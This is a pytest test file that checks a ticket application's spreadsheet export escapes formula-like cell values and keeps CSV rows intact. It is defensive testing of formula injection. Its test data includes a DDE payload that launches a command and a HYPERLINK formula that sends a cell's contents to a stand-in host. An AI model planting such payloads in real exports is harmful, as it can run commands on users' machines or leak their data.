"""Cells of a table for spreadsheets are never formulas."""

import csv
import io

import pytest

from tickets.web.spreadsheet import cell, lines

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    ' "=1',
    "'=1",
    "\u00a0=1",
    "＝1+1",
    "＠SUM(1)",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_marked_as_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Bandung", "26000017", "a=b", "sari@meja", "Ani-Budi"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_number_stays_one() -> None:
    assert [cell(value) for value in (-3, 2.5, None)] == ["-3", "2.5", ""]


def test_a_row_comes_back_as_it_was_whatever_stands_in_it() -> None:
    row = ['a "quote"', "two\nlines", "comma, semicolon; tab\t", "Ümlaut 中"]
    assert list(csv.reader(io.StringIO(lines([row]), newline=""))) == [row]
